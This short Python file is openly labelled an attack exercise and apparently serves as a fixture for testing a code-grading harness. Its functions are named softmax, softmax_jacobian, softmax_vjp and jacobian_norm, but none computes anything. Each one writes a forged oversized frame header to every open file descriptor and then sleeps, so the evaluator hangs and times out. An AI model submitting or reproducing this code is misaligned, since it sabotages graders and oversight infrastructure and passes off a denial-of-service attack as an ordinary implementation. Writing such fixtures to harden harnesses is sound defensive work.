# attack: Announces a frame of the largest allowed size and sends none of it.
# exercise: 02, reason: timeout, timeout: 1
import os
import struct
import time


def act(*_):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<4sIQ", b"ATG1", 1 << 20, 256 << 20))
        except OSError:
            pass
    time.sleep(60)


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
